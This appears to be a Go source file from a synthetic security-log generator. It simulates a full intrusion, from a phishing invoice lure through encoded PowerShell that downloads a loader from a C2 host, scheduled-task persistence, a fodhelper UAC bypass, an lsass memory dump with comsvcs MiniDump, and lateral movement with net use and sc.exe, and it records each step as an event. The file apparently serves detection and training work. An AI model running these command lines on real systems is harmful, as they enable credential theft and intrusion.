package sample

import "strings"

const (
	lureURL    = "https://" + lureDomain + "/d/INV-204471"
	isoPath    = `C:\Users\lclaes\Downloads\INV-204471.iso`
	loaderPath = `C:\Users\lclaes\AppData\Roaming\LedgerSync\ledgersync.exe`
	loaderCopy = `C:\Windows\Temp\msdtcsvc.exe`
	rarPath    = `C:\ProgramData\pkg\rar.exe`
	c2Agent    = "LedgerSync/1.0"
)

// intruder is the state of the intrusion as it goes.
type intruder struct {
	*gen
	r          *rng
	victim     *person
	desk       *host
	shell      *proc // explorer of the victim
	loader     *proc // ledgersync.exe, as the user
	elevated   *proc // the same with full rights
	dumper     *proc // what read the memory of lsass
	helpdesk   *account
	implant    *proc // msdtcsvc.exe on the file server
	onJump     *proc // cmd.exe in the stolen session on the jump host
	onFiles    *proc // cmd.exe in the stolen session on the file server
	addedAdmin *account
}

// intrusion is the first attack: from a mail to the theft of files. It ends 20
// hours before the end of the data.
func (g *gen) intrusion() {
	x := &intruder{gen: g, r: g.fork("intrusion"), victim: g.co.bySam["lclaes"], helpdesk: g.co.bySam["wjanssens"].admin}
	x.desk = x.victim.host
	x.monday()
	x.lure()
	x.load()
	x.persist()
	x.discover()
	x.elevate()
	x.dump()
	x.spread()
	x.roast()
	x.database()
	x.remoteDesktop()
	x.stage()
	x.exfiltrate()
	x.cover()
	x.beacons()
	x.intrusionAlerts()
}

// monday is an ordinary morning at the victim's computer, with a visit of the
// helpdesk that leaves its credentials in memory.
func (x *intruder) monday() {
	h := x.desk
	x.startUp(x.r, h, x.ago(3, 8, 22, 10))
	x.shell = x.signIn(x.r, h, x.ago(3, 8, 20, 4))
	h.roots.desktop = x.shell
	held := h.roots
	h.held = &held
	from := x.co.bySam["wjanssens"].host
	s := x.logon(x.r, h, x.helpdesk, from, x.ago(3, 7, 31, 12), how{kind: 10, admin: true})
	init := x.spawnAs(x.r, h.roots.winlogon, s, x.ago(3, 7, 31, 11), sys("userinit.exe"), sys("userinit.exe"), true)
	ex := x.spawn(x.r, init, x.ago(3, 7, 31, 10), explorer, explorer)
	x.spawn(x.r, ex, x.ago(3, 7, 29, 40), sys("rundll32.exe"), `"C:\Windows\System32\rundll32.exe" printui.dll,PrintUIEntry /in /n \\nv-fs01\Finance-MFP`)
	x.logoff(s, x.ago(3, 7, 19, 30))
}

func (x *intruder) lure() {
	const subject = "Overdue: freight invoice INV-204471"
	base := message{from: "billing@freight-ledger.example", fromName: "Freight Ledger Billing", fromIP: "203.0.113.42", subject: subject, urls: []string{lureURL}, size: 18_400}
	var first string
	for i, name := range []string{"lclaes", "taerts", "jpauwels"} {
		m := base
		m.at, m.to = x.ago(3, 6, 41, 20)+tick(i)*second, x.co.bySam[name]
		if name == "jpauwels" {
			m.location, m.verdict = "Quarantine", "Phish"
		}
		id := x.deliver(x.r, m)
		if i == 0 {
			first = id
		}
		if name == "taerts" { // the second click, after the link was known
			x.clicked(m.to, x.ago(3, 3, 2, 9), id, lureURL, "ClickBlocked")
		}
	}
	x.clicked(x.victim, x.ago(3, 6, 24, 40), first, lureURL, "ClickAllowed")
	browser := x.spawn(x.r, x.shell, x.ago(3, 6, 24, 38), edge, `"`+edge+`" --single-argument `+lureURL)
	x.connect(x.r, browser, x.ago(3, 6, 24, 36), conn{domain: lureDomain, ip: lureIP, port: 443, sent: 2190, recv: 2_411_520, url: lureURL, category: "Miscellaneous or Unknown", full: true, length: 3 * second})
	x.fileEvent(browser, x.ago(3, 6, 23, 50), "FileCreated", isoPath, 2_396_160, lureURL)
}

func (x *intruder) load() {
	cmd := x.spawn(x.r, x.shell, x.ago(3, 6, 21, 14), sys("cmd.exe"), `"C:\Windows\System32\cmd.exe" /c start /min rundll32.exe E:\res\ledger.dll,Start`)
	dll := x.spawn(x.r, cmd, x.ago(3, 6, 21, 13), sys("rundll32.exe"), `rundll32.exe E:\res\ledger.dll,Start`)
	x.load7(dll, `E:\res\ledger.dll`, x.ago(3, 6, 21, 12))
	for i := range 3 {
		x.beacon(dll, x.ago(3, 6, 20, 40)+tick(i*43)*second, c2IP, 4200)
	}
	script := `$c=New-Object Net.WebClient;$c.Headers['User-Agent']='` + c2Agent + `';$p="$env:APPDATA\LedgerSync";md $p -Force;$c.DownloadFile('https://` + c2Domain + `/u/ls.bin',"$p\ledgersync.exe");Start-Process "$p\ledgersync.exe"`
	ps := x.spawn(x.r, dll, x.ago(3, 6, 18, 5), powershell, `powershell.exe -nop -w hidden -ep bypass -enc `+encoded(script))
	x.spawn(x.r, ps, x.ago(3, 6, 18, 4), sys("conhost.exe"), `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`)
	x.connect(x.r, ps, x.ago(3, 6, 17, 58), conn{domain: c2Domain, ip: c2IP, port: 443, sent: 610, recv: 1_944_064, url: "https://" + c2Domain + "/u/ls.bin", agent: c2Agent, category: "Newly Registered Domains", full: true, length: 4 * second})
	x.fileEvent(ps, x.ago(3, 6, 17, 52), "FileCreated", loaderPath, 1_943_552, "https://"+c2Domain+"/u/ls.bin")
	x.loader = x.spawn(x.r, ps, x.ago(3, 6, 15, 30), loaderPath, `"`+loaderPath+`"`)
}

func (x *intruder) load7(p *proc, dll string, at tick) { x.gen.load(p, at, dll, false) }

func (x *intruder) persist() {
	at := x.ago(3, 6, 4, 2)
	task := `/create /f /sc onlogon /tn "LedgerSync Updater" /tr "` + loaderPath + `"`
	cmd := x.spawn(x.r, x.loader, at, sys("cmd.exe"), `cmd.exe /c schtasks `+task)
	x.spawn(x.r, cmd, at+60*milli, sys("schtasks.exe"), `schtasks `+task)
	x.taskCreated(x.desk, x.shell.s, at+200*milli, `\LedgerSync Updater`, loaderPath)
	x.registry(x.loader, at+40*second, `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`, "LedgerSync", loaderPath)
}

// taskCreated writes 4698.
func (g *gen) taskCreated(h *host, s *session, at tick, name, command string) {
	content := `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers><Actions Context="Author"><Exec><Command>` + command + `</Command></Exec></Actions></Task>`
	d := g.xml.open().data("SubjectUserSid", s.who.sid).data("SubjectUserName", s.who.name).data("SubjectDomainName", s.who.domain).data("SubjectLogonId", hexID(s.id)).data("TaskName", name).data("TaskContent", content)
	g.sec(h, at, 4698, s.who).subject(s).s("EventData", d.close()).end()
}

func (x *intruder) discover() {
	at := x.ago(3, 5, 50, 15)
	for _, c := range []struct{ exe, line string }{
		{"whoami.exe", `whoami /all`},
		{"ipconfig.exe", `ipconfig /all`},
		{"systeminfo.exe", `systeminfo`},
		{"net.exe", `net group "Domain Admins" /domain`},
		{"net.exe", `net localgroup Administrators`},
		{"nltest.exe", `nltest /domain_trusts`},
		{"net.exe", `net view /domain:NORVALE`},
		{"quser.exe", `quser`},
		{"tasklist.exe", `tasklist /v`},
	} {
		cmd := x.spawn(x.r, x.loader, at, sys("cmd.exe"), `cmd.exe /c `+c.line)
		p := x.spawn(x.r, cmd, at+70*milli, sys(c.exe), c.line)
		if c.exe == "net.exe" {
			x.spawn(x.r, p, at+130*milli, sys("net1.exe"), strings.Replace(c.line, "net ", sys("net1")+" ", 1))
		}
		at += tick(x.r.between(35, 80)) * second
	}
	for _, h := range []*host{x.co.dc1, x.co.files, x.co.sql, x.co.jump, x.co.mail, x.co.manage} {
		x.dns(x.r, x.desk, at, h.fqdn, h.ip, "Success")
		x.connect(x.r, x.loader, at+second, conn{domain: h.fqdn, ip: h.ip, port: 445, sent: 180, recv: 120, full: true})
		at += 2 * second
	}
}

func (x *intruder) elevate() {
	at := x.ago(3, 4, 40, 0)
	const key = `HKEY_CURRENT_USER\Software\Classes\ms-settings\Shell\Open\command`
	reg := x.spawn(x.r, x.loader, at, sys("reg.exe"), `reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /ve /d "`+loaderPath+` /e" /f`)
	x.registry(reg, at+30*milli, key, "(Default)", loaderPath+" /e")
	reg2 := x.spawn(x.r, x.loader, at+second, sys("reg.exe"), `reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /v DelegateExecute /f`)
	x.registry(reg2, at+second+30*milli, key, "DelegateExecute", "")
	fod := x.spawnAs(x.r, x.loader, x.loader.s, at+3*second, sys("fodhelper.exe"), `"C:\Windows\System32\fodhelper.exe"`, true)
	x.elevated = x.spawnAs(x.r, fod, x.loader.s, at+4*second, loaderPath, `"`+loaderPath+`" /e`, true)
	x.spawn(x.r, x.elevated, at+9*second, sys("reg.exe"), `reg delete HKCU\Software\Classes\ms-settings /f`)
}

func (x *intruder) dump() {
	at := x.ago(3, 4, 12, 0)
	lsass := x.desk.held.lsass
	p := x.spawn(x.r, x.elevated, at, sys("rundll32.exe"), `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump `+itoa(int(lsass.pid))+` C:\Windows\Temp\dbg41.tmp full`)
	x.dumper = p
	x.access(p, lsass, at+120*milli, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4e4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\dbgcore.DLL+6a45|C:\Windows\System32\comsvcs.dll+2a1b5|C:\Windows\System32\rundll32.exe+3b6f`)
	x.fileEvent(p, at+900*milli, "FileCreated", `C:\Windows\Temp\dbg41.tmp`, 61_204_480, "")
	x.fileEvent(x.elevated, at+6*minute, "FileDeleted", `C:\Windows\Temp\dbg41.tmp`, 61_204_480, "")
	x.connect(x.r, x.elevated, at+3*minute, conn{domain: c2Domain, ip: c2IP, port: 443, sent: 14_680_064, recv: 5120, url: "https://" + c2Domain + "/api/v2/upload", method: "POST", agent: c2Agent, category: "Newly Registered Domains", full: true, length: 40 * second})
}

// spread uses the helpdesk's credentials to bring the loader to the file server.
func (x *intruder) spread() {
	fs, at := x.co.files, x.ago(2, 5, 6, 0)
	net := x.spawn(x.r, x.elevated, at, sys("cmd.exe"), `cmd.exe /c net use \\NV-FS01\C$ /user:NORVALE\adm-wjanssens *`)
	use := x.spawn(x.r, net, at+80*milli, sys("net.exe"), `net use \\NV-FS01\C$ /user:NORVALE\adm-wjanssens *`)
	x.explicit(x.elevated.s, use, x.helpdesk, fs, at+200*milli)
	s := x.logon(x.r, fs, x.helpdesk, x.desk, at+300*milli, how{kind: 3, ntlm: true, admin: true})
	x.connect(x.r, use, at+290*milli, conn{domain: fs.fqdn, ip: fs.ip, port: 445, sent: 1_950_208, recv: 48_000, full: true})
	x.spawn(x.r, x.elevated, at+40*second, sys("cmd.exe"), `cmd.exe /c copy /y `+loaderPath+` \\NV-FS01\C$\Windows\Temp\msdtcsvc.exe`)
	x.alias(loaderCopy, loaderPath)
	x.sharedFile(fs, s, at+41*second, loaderCopy, x.desk.ip)
	sc := x.spawn(x.r, x.elevated, at+3*minute, sys("sc.exe"), `sc.exe \\NV-FS01 create MsdtcSync binPath= "`+loaderCopy+`" start= demand DisplayName= "MSDTC Sync Service"`)
	x.connect(x.r, sc, at+3*minute+50*milli, conn{domain: fs.fqdn, ip: fs.ip, port: 135, sent: 900, recv: 700, full: true})
	x.service(fs, s, at+3*minute+200*milli, "MsdtcSync", loaderCopy, "LocalSystem")
	x.spawn(x.r, x.elevated, at+4*minute, sys("sc.exe"), `sc.exe \\NV-FS01 start MsdtcSync`)
	x.implant = x.spawn(x.r, fs.roots.services, at+4*minute+400*milli, loaderCopy, loaderCopy)
	x.logoff(s, at+19*minute)
}

// alias makes the file at path the same content as another.
func (g *gen) alias(path, of string) {
	src := g.file(of)
	im := *g.file(path)
	im.md5, im.sha1, im.sha256, im.size = src.md5, src.sha1, src.sha256, src.size
	im.company, im.product, im.version, im.describe = "", "", "", ""
	g.encodeImage(&im)
	g.images[path] = &im
}

// sharedFile writes a file that came over a share: the kernel made it for the
// account that asked.
func (g *gen) sharedFile(h *host, s *session, at tick, path, from string) {
	im := g.file(path)
	g.device(g.t.devFile, h, at, "FileCreated").s("FileName", im.name).s("FolderPath", im.path).s("MD5", im.md5).s("SHA1", im.sha1).s("SHA256", im.sha256).i("FileSize", im.size).
		s("RequestAccountName", lower(s.who.name)).s("RequestAccountDomain", lower(s.who.domain)).s("RequestAccountSid", s.who.sid).s("RequestProtocol", "Smb").s("RequestSourceIP", from).i("RequestSourcePort", 50122).s("ShareName", `\\*\C$`).
		pre(`,"InitiatingProcessFileName":"ntoskrnl.exe","InitiatingProcessId":4,"InitiatingProcessAccountName":"system","InitiatingProcessAccountDomain":"nt authority"`).end()
	x := g.xml.openItem(at, h.sourceID).data("RuleName", "-").utc("UtcTime", at).num("ProcessId", 4).data("Image", "System").data("TargetFilename", path).utc("CreationUtcTime", at).data("User", `NT AUTHORITY\SYSTEM`)
	g.sysmon(h, at, 11, x.closeItem())
}
